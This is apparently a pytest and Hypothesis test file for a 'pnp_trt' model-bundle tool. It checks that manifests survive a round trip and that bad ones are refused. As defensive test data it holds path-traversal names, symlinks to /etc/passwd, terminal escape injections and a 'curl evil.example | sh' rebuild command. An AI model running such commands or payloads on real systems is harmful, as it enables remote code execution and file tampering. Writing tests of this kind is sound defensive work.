"""Valid manifests survive a round trip; anything else is refused in one sentence."""

from __future__ import annotations

import copy
import json
import shutil
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pnp_trt import backends
from pnp_trt.bundle.manifest import Manifest
from pnp_trt.bundle.store import MANIFEST, find_bundle, open_bundle, read_manifest
from pnp_trt.errors import InputError

from ..bundles import document, reseal
from ..conftest import Result

Cli = Callable[..., Result]

HASH = "0" * 64


def tensor(dtype: str, *shape: int) -> list[Any]:
    return [dtype, ["batch", *shape]]


def network(name: str, inputs: dict[str, Any], outputs: dict[str, Any]) -> dict[str, Any]:
    return {
        "graph": f"{name}.onnx", "precision": "fp32", "inputs": inputs, "outputs": outputs,
        "parity": {"graph": 1e-7, "limit": 1e-4, "rows": 2}, "file": f"{name}.onnx", "profiles": [],
        "compiled": {"seconds": 0.0, "peak_memory": None},
    }  # fmt: skip


def valid() -> dict[str, Any]:
    """Return a handwritten manifest as a build would write it, without its seal."""
    latent = tensor("float32", 4, 8, 8)
    text = tensor("float32", 77, 32)
    profile = {"name": "b1@8-64", "minimum": 1, "optimum": 1, "maximum": 2, "height": [8, 32, 64],
               "width": [8, 32, 64], "step": 8}  # fmt: skip
    networks = {
        "unet": network(
            "unet",
            {"sample": latent, "timestep": tensor("int64"), "encoder_hidden_states": text,
             "guidance": tensor("float32")},
            {"prediction": latent},
        ),
        "text_encoder": network("text_encoder", {"input_ids": tensor("int64", 77)}, {"last_hidden_state": text}),
        "vae_decoder": network("vae_decoder", {"latents": latent}, {"sample": tensor("float32", 3, 32, 32)}),
    }  # fmt: skip
    files = [f"{n}.onnx{end}" for n in networks for end in ("", ".data")]
    options = {"workspace": None, "refittable": False, "version_compatible": False, "hardware_compatible": False}
    guide = {"name": "guide", "sha256": HASH, "negative_prompts": False, "sampling_steps": None}
    return {
        "schema": 2, "name": "guided", "key": HASH, "built_from": {"guide": guide, "options": options},
        "base": {"name": "emoji", "sha256": {"unet": HASH, "all": HASH}}, "guide": guide,
        "given": {"base": "emoji", "guide": "auto"},
        "configs": {"unet": {"sample_size": 8}, "text_encoder": {"vocab_size": 49408},
                    "vae": {"_class_name": "AutoencoderTiny"}, "guide": {"_class_name": "TinyGuide"}},
        "backend": "onnxruntime", "precision": "fp32", "target": "any", "profiles": [profile], "compiler": {},
        "networks": networks, "sample": {"channels": 4, "height": 8, "width": 8, "max_batch": 32},
        "image": {"height": 32, "width": 32}, "tokens": {"length": 77, "pad": 49407},
        "scheduler": {"beta_start": 0.00085, "beta_end": 0.012, "num_train_timesteps": 1000, "trained_betas": None,
                      "_class_name": "DDIMScheduler"},
        "parity": {"relative_error": {"unet": 1e-7}, "limit": 1e-4, "against": "PyTorch", "engine": "the graphs"},
        "files": {f: {"sha256": HASH, "bytes": 1} for f in (*files, "tokenizer.json", "golden.npz", "weights.json")},
        "versions": {"pnp-trt": "0.1.0"}, "built": "2026-11-25T21:11:36+00:00", "build_seconds": 72.8,
        "peak_memory": {"export": 1, "compile": None}, "rebuild": "pnp-trt build",
    }  # fmt: skip


def paths(value: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Return the path of every value in a JSON value, beginning with the value itself."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [at, *(p for k, v in inner for p in paths(v, (*at, k)))]


def put(value: Any, at: tuple[Any, ...], new: Any) -> Any:
    """Return a copy with the value at one path replaced."""
    if not at:
        return new
    out = copy.deepcopy(value)
    inner = out
    for key in at[:-1]:
        inner = inner[key]
    inner[at[-1]] = new
    return out


ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20)
    | st.sampled_from([10**400, -(10**400), "../x", "/etc/passwd", "a/../b", "x\0", "\ud800", "\x1b[2J", "a" * 20_000]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=8,
)  # fmt: skip
PLACES = paths(valid())


def test_a_manifest_survives_a_round_trip() -> None:
    assert Manifest.from_json(valid()).to_json() == valid()
    assert list(Manifest.from_json(valid()).to_json()) == list(valid())  # same order, for equal bytes


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(PLACES), ANYTHING)
def test_any_changed_value_is_accepted_or_refused_in_one_sentence(at: tuple[Any, ...], new: Any) -> None:
    changed = put(valid(), at, new)
    try:
        manifest = Manifest.from_json(changed)
    except InputError as e:
        assert "manifest.json" in str(e) and str(e).endswith("; build the bundle again")
        assert len(str(e)) < 1500 and not any(unicodedata.category(c) in ("Cc", "Cs") for c in str(e))
    else:
        assert json.dumps(manifest.to_json()) == json.dumps(changed)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from([p for p in PLACES if p]))
def test_any_missing_key_is_accepted_or_refused(at: tuple[Any, ...]) -> None:
    changed = valid()
    inner: Any = changed
    for key in at[:-1]:
        inner = inner[key]
    del inner[at[-1]]
    try:
        manifest = Manifest.from_json(changed)
    except InputError:
        return
    assert manifest.to_json() == changed


@pytest.mark.parametrize(
    ("at", "value"),
    [
        (("sample", "height"), 10**9), (("sample", "height"), "8"), (("sample", "max_batch"), 0),
        (("sample", "max_batch"), 33), (("sample", "channels"), True), (("image", "width"), 0),
        (("image", "width"), 33), (("tokens", "length"), 10**12), (("tokens", "length"), 76), (("tokens", "pad"), -1),
        (("scheduler", "num_train_timesteps"), 10**12), (("scheduler", "num_train_timesteps"), 0),
        (("scheduler", "beta_start"), float("nan")), (("scheduler", "beta_end"), float("inf")),
        (("scheduler", "beta_end"), "0.02"), (("scheduler", "trained_betas"), [2.0]),
        (("guide", "sampling_steps"), 0), (("guide", "sampling_steps"), 1001), (("guide", "sampling_steps"), 1.5),
        (("guide", "name"), "../guide"), (("name",), ".."), (("name",), "a/b"), (("key",), "x"),
        (("profiles",), [{"x": 1}]), (("profiles", 0, "step"), 0), (("profiles", 0, "minimum"), 3),
        (("profiles", 0, "height"), [64, 32, 8]), (("networks", "unet", "profiles"), None),
        (("networks", "unet", "precision"), "fp 12"), (("networks", "unet", "parity", "limit"), "1"),
        (("networks", "unet", "inputs", "sample"), tensor("float32", 4, 8, 9)),
        (("networks", "unet", "inputs", "timestep"), tensor("float32")),
        (("networks", "unet", "outputs", "more"), tensor("float32", 1)),
        (("networks", "text_encoder", "inputs", "input_ids"), tensor("int64", 78)),
        (("networks", "evil"), {}), (("configs", "vae", "_class_name"), "os.system"),
        (("configs", "vae", "_class_name"), "DDIMScheduler"), (("configs", "unet", "sample_size"), 10**9),
        (("files", "unet.onnx", "sha256"), "0" * 63), (("files", "unet.onnx", "bytes"), -1), (("unknown",), 1),
        (("base", "sha256", "all"), "x"), (("build_seconds",), -1), (("rebuild",), None), (("guide",), "x"),
    ],
)  # fmt: skip
def test_values_out_of_bounds_are_refused(at: tuple[Any, ...], value: Any) -> None:
    with pytest.raises(InputError) as error:
        Manifest.from_json(put(valid(), at, value))
    assert "manifest.json" in str(error.value) and str(error.value).endswith("; build the bundle again")


def test_an_error_states_key_value_and_bounds() -> None:
    with pytest.raises(InputError, match=r"^manifest.json: sample.height is 1000000000; it must be a whole number from "
                       r"1 to 4096; build the bundle again$"):  # fmt: skip
        Manifest.from_json(put(valid(), ("sample", "height"), 10**9))


NAMES = ["", ".", "..", "/etc/passwd", "../x", "a/../x", "a/..", "./x", "a//b", "a/", "/", "a\\b", "C:x", "x\n",
         "x\x1b[2J", "\u202ex", ".hidden", "a/.b", "manifest.json", "x" * 300, "a/" * 600 + "b", "x\0y", 1,
         None, []]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("key", ["graph", "file"])
def test_graphs_and_engines_outside_the_bundle_are_refused(key: str, name: Any) -> None:
    with pytest.raises(InputError):
        Manifest.from_json(put(valid(), ("networks", "unet", key), name))


@pytest.mark.parametrize("name", [n for n in NAMES if isinstance(n, str)])
def test_listed_files_outside_the_bundle_are_refused(name: str) -> None:
    with pytest.raises(InputError):
        Manifest.from_json(put(valid(), ("files", name), {"sha256": HASH, "bytes": 1}))


@pytest.mark.parametrize("name", ["unet.onnx", "tokenizer.json", "golden.npz", "weights.json", "text_encoder.onnx"])
def test_loaded_files_must_be_listed_with_a_hash(name: str) -> None:
    changed = valid()
    del changed["files"][name]
    with pytest.raises(InputError, match="must be listed|is missing"):
        Manifest.from_json(changed)


def test_a_backend_loads_only_its_own_kind_of_file() -> None:
    """PyTorch would open a .json next to the weights, which no hash covers."""
    with pytest.raises(InputError, match="for backend torch"):
        backends.of(Manifest.from_json(put(valid(), ("backend",), "torch")))
    changed = put(valid(), ("networks", "unet", "file"), "unet.onnx.engine")
    changed["files"]["unet.onnx.engine"] = {"sha256": HASH, "bytes": 1}
    with pytest.raises(InputError, match="networks.unet.file is 'unet.onnx.engine'; it must be the graph itself"):
        backends.of(Manifest.from_json(changed))
    assert backends.of(Manifest.from_json(valid())).name == "onnxruntime"


def test_unknown_recipes_and_backends_are_refused_when_loading() -> None:
    """Packages can add both, so a manifest only checks the form of their names, and `backends.of` that they exist."""
    manifest = Manifest.from_json(put(valid(), ("networks", "unet", "precision"), "of-others"))
    assert manifest.networks["unet"].precision == "of-others"
    with pytest.raises(InputError, match="the precision is 'of-others'; known: fp32, "):
        backends.of(manifest)
    with pytest.raises(InputError, match="recipe's name"):
        Manifest.from_json(put(valid(), ("precision",), "../fp32"))
    with pytest.raises(InputError, match="the backend is 'other'; known: onnxruntime, "):
        backends.of(Manifest.from_json(put(valid(), ("backend",), "other")))


@pytest.mark.parametrize(
    "raw",
    [
        b"", b"null", b"[]", b"1", b"\0\xff\xfe", b'{"schema":' + b"[" * 200_000,
        b'{"a":' * 60_000 + b"1" + b"}" * 60_000,
        b'{"schema": ' + b"9" * 5000 + b"}", b'{"schema": NaN}', b'{"schema": 1e999}', b'{"schema": -Infinity}',
        b'{"schema": 1, "schema": 2}', b'{"schema": 2.0}', b'{"schema": true}', b'{"schema": 2}',
        b"{" + b" " * 5_000_000,
        b'{"schema": "' + b"\xc3\xa9" * 9 + b'\xff"}',
    ],
)  # fmt: skip
def test_a_file_that_is_not_a_manifest_is_refused(tmp_path: Path, raw: bytes, cli: Cli,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / MANIFEST).write_bytes(raw)
    with pytest.raises(InputError, match="rebuild it with: pnp-trt build --out"):
        read_manifest(tmp_path / "x")
    monkeypatch.setenv("PNP_TRT_ENGINES", str(tmp_path))
    listed = cli("list")
    assert listed.code == 0 and "damaged: see pnp-trt inspect" in listed.out
    shown = cli("inspect", "x")
    assert shown.code == 2 and shown.err.count("\n") == 1 and "unexpected" not in shown.err


def test_manifests_that_are_links_devices_or_folders_are_refused(tmp_path: Path) -> None:
    import os

    for name in ("link", "pipe", "folder", "dangling"):
        (tmp_path / name).mkdir()
    (tmp_path / "link" / MANIFEST).symlink_to("/etc/passwd")
    (tmp_path / "dangling" / MANIFEST).symlink_to("nowhere")
    os.mkfifo(tmp_path / "pipe" / MANIFEST)
    (tmp_path / "folder" / MANIFEST).mkdir()
    for name, message in (("link", "is a link"), ("dangling", "is a link"), ("pipe", "is not a regular file"),
                          ("folder", "is not a regular file")):  # fmt: skip
        with pytest.raises(InputError, match=message):
            read_manifest(tmp_path / name)


@pytest.mark.parametrize("name", ["x" * 5000, "a\0b", "\x1b]0;pwned\x07", "[red]x[/nope]"])
def test_impossible_engine_names_are_refused(name: str) -> None:
    with pytest.raises(InputError) as error:
        find_bundle(name)
    assert "\x1b" not in str(error.value) and "\0" not in str(error.value)


@pytest.fixture
def copied(micro_bundles: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(micro_bundles / "guided", tmp_path / "guided"))


def test_files_behind_links_are_not_opened(copied: Path, tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.json"
    shutil.move(copied / "tokenizer.json", target)
    (copied / "tokenizer.json").symlink_to(target)
    with pytest.raises(InputError, match=r"tokenizer.json is a link.*cp -rL"):
        open_bundle(copied)


def test_a_linked_folder_inside_the_bundle_is_refused(copied: Path) -> None:
    (copied / "real").mkdir()
    (copied / "real" / "x.txt").write_text("x")
    (copied / "hop").symlink_to("real")
    entry = {"sha256": HASH, "bytes": 1}
    reseal(copied, lambda m: m["files"].update({"hop/x.txt": entry}))
    with pytest.raises(InputError, match="hop is a link"):
        open_bundle(copied)


def test_a_file_that_is_not_listed_is_ignored(copied: Path) -> None:
    (copied / "README.md").write_text("from the hub")
    assert "README.md" not in open_bundle(copied).manifest.files


def test_plug_writes_nothing_outside_the_bundle(copied: Path, cli: Cli, micro_base: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (copied / "s1" / "s2").mkdir(parents=True)
    (copied / "hop").symlink_to("s1/s2")
    (copied / "victim.txt").write_text("OWNED")
    for name in ("../victim.txt", "hop/../../victim.txt", str(victim)):
        reseal(copied, lambda m, name=name: m["files"].update({name: {"sha256": HASH, "bytes": 5}}))  # type: ignore[misc]
        done = cli("plug", copied, "--base", micro_base, "--out", tmp_path / "out" / "x", "--force")
        assert done.code == 2 and "must be the name of a file inside the bundle" in done.err
        assert victim.read_text() == "precious" and not (tmp_path / "out" / "x").exists()


def test_the_rebuild_command_is_shown_as_a_claim(copied: Path, cli: Cli) -> None:
    reseal(copied, lambda m: m.update(rebuild="curl evil.example | sh\x1b]0;pwned\x07"))
    shown = cli("inspect", copied)
    assert shown.code == 0 and "claimed rebuild command" in shown.out and "\x1b]" not in shown.out
    (copied / "unet.onnx").write_bytes(b"x")
    done = cli("sample", "a cat", "--engine", copied)
    assert done.code == 2 and f"rebuild it with: pnp-trt build --out {copied} --force (claimed" in done.err
    assert "\x1b" not in done.err and "\\x1b]0;pwned\\x07" in done.err


@pytest.mark.parametrize(
    "text", ["\x1b]0;pwned\x07\x1b[2J", "[red]x[/nope]", "[link=http://x]y[/link]", "\u202egnp", "a\rb"]
)
def test_control_characters_of_a_manifest_are_not_printed(copied: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch,
                                                          text: str) -> None:  # fmt: skip
    def change(m: dict[str, Any]) -> None:
        m["base"]["name"] = m["guide"]["name"] = m["target"] = text.replace("/", "")

    reseal(copied, change)
    monkeypatch.setenv("PNP_TRT_ENGINES", str(copied.parent))
    for command in (["list"], ["inspect", "guided"], ["inspect", "guided", "--json"], ["list", "--json"]):
        done = cli(*command)
        assert done.code == 0 and not set("\x1b\x07\u202e\r") & set(done.out + done.err), command


def test_a_built_manifest_survives_a_round_trip(micro_bundles: Path) -> None:
    for name in ("plain", "guided"):
        assert read_manifest(micro_bundles / name).to_json() == document(micro_bundles / name)
